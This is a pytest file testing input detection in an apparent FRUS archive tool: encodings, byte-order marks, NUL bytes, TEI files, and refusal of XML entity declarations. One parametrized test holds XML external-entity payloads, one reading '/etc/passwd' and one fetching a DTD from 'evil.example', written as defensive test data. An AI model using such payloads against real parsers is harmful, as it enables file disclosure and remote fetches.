"""What an input is, named before it is read: UTF-16 and byte-order marks, NUL bytes
anywhere, TEI files without documents, and a DOCTYPE refused by the parser wherever it stands."""

from __future__ import annotations

import codecs
import json

import pytest

from archivetool.cli import app
from archivetool.pipeline import iter_outcomes
from conftest import DATA, SEED_FRUS

TEXT = SEED_FRUS.read_text(encoding="utf-8")
TEI_NS = "http://www.tei-c.org/ns/1.0"


def run(runner, *args):
    return runner.invoke(app, [str(a) for a in args])


def _extract(runner, tmp_path, name, data):
    path = tmp_path / name
    path.write_bytes(data)
    return run(runner, "extract", path)


@pytest.mark.parametrize(
    "data",
    [codecs.BOM_UTF16_LE + TEXT.encode("utf-16-le"), codecs.BOM_UTF16_BE + TEXT.encode("utf-16-be"),
     codecs.BOM_UTF8 + TEXT.encode("utf-8")],
    ids=["utf-16le-bom", "utf-16be-bom", "utf-8-bom"],
)  # fmt: skip
def test_text_with_a_byte_order_mark_is_read_as_what_it_is(runner, tmp_path, data):
    res = _extract(runner, tmp_path, "t.txt", data)
    assert res.exit_code == 0, res.stderr
    (record,) = json.loads(res.stdout)
    plain = json.loads(run(runner, "extract", SEED_FRUS).stdout)[0]
    assert record["text"] == plain["text"] and record["title"] == plain["title"]
    assert record["id"] == plain["id"]  # the same document, whatever its encoding


@pytest.mark.parametrize("enc", ["UTF-16LE", "UTF-16BE"])
def test_utf16_without_a_mark_is_named_with_the_conversion(runner, tmp_path, enc):
    res = _extract(runner, tmp_path, "t.txt", TEXT.encode(enc))
    assert res.exit_code == 1 and "binary" not in res.stderr
    assert f"{enc} text without a byte-order mark" in res.stderr
    assert f"iconv -f {enc} -t UTF-8" in res.stderr


def test_utf32_is_named(runner, tmp_path):
    res = _extract(runner, tmp_path, "t.txt", TEXT.encode("utf-32"))
    assert res.exit_code == 1 and "UTF-32LE" in res.stderr and "binary" not in res.stderr


def test_broken_utf8_after_a_utf8_mark_is_not_called_cp1252(runner, tmp_path):
    res = _extract(runner, tmp_path, "t.txt", codecs.BOM_UTF8 + TEXT.encode() + b"\xff\n")
    assert res.exit_code == 1 and "UTF-8 byte-order mark" in res.stderr
    assert "cp1252" not in res.stderr


@pytest.mark.parametrize("where", [10, 9000, 200_000])
def test_a_nul_anywhere_is_refused(runner, tmp_path, where):
    data = (TEXT * (1 + where // len(TEXT))).encode()
    data = data[:where] + b"\x00" + data[where:]
    res = _extract(runner, tmp_path, "t.txt", data)
    assert res.exit_code == 1 and json.loads(res.stdout) == []
    assert "NUL" in res.stderr or "binary" in res.stderr
    if where > 8192:
        line = data[:where].count(b"\n") + 1
        assert f"line {line}: a NUL character" in res.stderr


def test_a_nul_inside_utf16_is_refused(runner, tmp_path):
    res = _extract(runner, tmp_path, "t.txt", (TEXT + "\x00tail").encode("utf-16"))
    assert res.exit_code == 1 and "NUL" in res.stderr


# -- TEI ------------------------------------------------------------------------------------


def _tei(body: str, prolog: str = "") -> str:
    return (f'<?xml version="1.0"?>\n<!-- a FRUS volume, {TEI_NS} -->\n{prolog}'
            f'<TEI xmlns="{TEI_NS}"><text><body>{body}</body></text></TEI>\n')  # fmt: skip


def test_a_tei_file_without_documents_says_so(runner, tmp_path, archive):
    path = tmp_path / "frontmatter.xml"
    path.write_text(_tei('<div type="chapter"><head>Preface</head><p>Text.</p></div>'))
    res = run(runner, "ingest", "--archive", archive, path)
    assert res.exit_code == 1 and "a TEI file without documents" in res.stderr
    assert "failed 1" in res.stderr


DOC = ('<div type="document" xml:id="d1" n="1"><head>The Secretary of State to the Embassy in '
       'Iran &e;</head><p>1. Text.</p></div>')  # fmt: skip


@pytest.mark.parametrize(
    "prolog",
    ['<!DOCTYPE TEI [ <!ENTITY e "lol"> ]>\n',
     '<!DOCTYPE TEI [ <!ENTITY e SYSTEM "file:///etc/passwd"> ]>\n',
     '<!DOCTYPE TEI [ <!ENTITY % p SYSTEM "http://evil.example/x.dtd"> ]>\n'],
    ids=["internal", "external", "parameter"],
)  # fmt: skip
@pytest.mark.parametrize("padding", [0, 70_000, 1_000_000])
def test_declared_entities_are_refused_wherever_the_doctype_stands(tmp_path, prolog, padding):
    # a long comment before the DOCTYPE pushes it past any fixed look-ahead
    filler = f"<!-- {'x' * padding} -->\n" if padding else ""
    path = tmp_path / "v.xml"
    path.write_text(
        _tei(DOC.replace("&e;", "&e;" if "ENTITY e" in prolog else ""), filler + prolog)
    )
    (out,) = list(iter_outcomes([str(path)]))
    assert out.failed and "entities" in out.issues[0].message


def test_a_plain_doctype_without_declarations_is_still_read(tmp_path):
    path = tmp_path / "v.xml"
    path.write_text(_tei(DOC.replace(" &e;", ""), '<!DOCTYPE TEI SYSTEM "tei_all.dtd">\n'))
    (out,) = list(iter_outcomes([str(path)]))
    assert not out.failed, out.issues


def test_a_utf16_tei_volume_is_named(runner, tmp_path):
    volume = (DATA / "tei" / "frus1948v05p1.xml").read_text(encoding="utf-8")
    path = tmp_path / "v.xml"
    path.write_bytes(volume.encode("utf-16"))
    res = run(runner, "extract", path)
    assert res.exit_code == 1 and "TEI XML volume in UTF-16LE" in res.stderr


@pytest.mark.parametrize(
    "number_line", ["File No. 701.5212/36.", "File Nos. 763.72/2.", "711.00111/2:"]
)
def test_a_file_number_line_is_a_frus_sign_with_or_without_its_full_stop(number_line):
    # a heading the sniffer cannot read as one (a name lost, a lower-case word) must not
    # hide the document when its decimal file number line is there
    from archivetool.sources import FRUS, sniff_kind

    text = f"{number_line}\n\nSpecial Agent your to the secretary.\n\nIn a personal interview.\n"
    assert sniff_kind(text) == FRUS
